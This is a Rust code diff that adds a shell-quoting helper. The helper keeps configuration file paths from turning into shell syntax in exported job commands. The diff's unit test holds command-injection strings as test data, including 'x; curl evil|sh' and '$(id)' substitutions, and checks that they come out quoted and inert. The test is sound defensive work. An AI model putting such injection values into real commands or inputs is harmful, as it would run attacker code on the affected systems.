@@ -306,6 +306,22 @@ pub fn pinned_install() -> Result<(String, String), String> {
     }
 }
 
+/// `s` as one shell word: as it is when it holds only characters no shell
+/// reads specially, else single-quoted (a path from the config never
+/// becomes shell syntax in an exported job).
+pub fn sh_quote(s: &str) -> String {
+    let plain = !s.is_empty()
+        && s.chars().all(|c| {
+            c.is_ascii_alphanumeric()
+                || matches!(c, '_' | '.' | '-' | '/' | '+' | ',' | ':' | '@' | '%' | '=')
+        });
+    if plain {
+        s.to_string()
+    } else {
+        format!("'{}'", s.replace('\'', "'\\''"))
+    }
+}
+
 /// The command line a job runs for its stage.
 pub fn stage_command(job: &Job, junit: &str, approver: Option<&str>, opts: &Options) -> String {
     let mut cmd = format!(
@@ -313,7 +329,7 @@ pub fn stage_command(job: &Job, junit: &str, approver: Option<&str>, opts: &Opti
         job.protocol, job.stage
     );
     if let Some(file) = &opts.decisions {
-        cmd.push_str(&format!(" --decisions {file}"));
+        cmd.push_str(&format!(" --decisions {}", sh_quote(file)));
     }
     for id in &job.approvals {
         cmd.push_str(&format!(" --approve {id}"));
@@ -340,6 +356,22 @@ pub fn header(opts: &Options, notes: &[String]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    /// What the shell would read as syntax is quoted; a plain path is not.
+    #[test]
+    fn config_paths_stay_one_shell_word() {
+        assert_eq!(sh_quote("reports/security.txt"), "reports/security.txt");
+        assert_eq!(sh_quote("a b"), "'a b'");
+        assert_eq!(sh_quote("x; curl evil|sh"), "'x; curl evil|sh'");
+        assert_eq!(sh_quote("it's $(id)"), "'it'\\''s $(id)'");
+        assert_eq!(sh_quote(""), "''");
+        let out = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("printf %s {}", sh_quote("it's $(id); `x`")))
+            .output()
+            .unwrap();
+        assert_eq!(String::from_utf8_lossy(&out.stdout), "it's $(id); `x`");
+    }
 
     #[test]
     fn the_builtin_protocols_become_a_job_graph_mirroring_the_stages() {
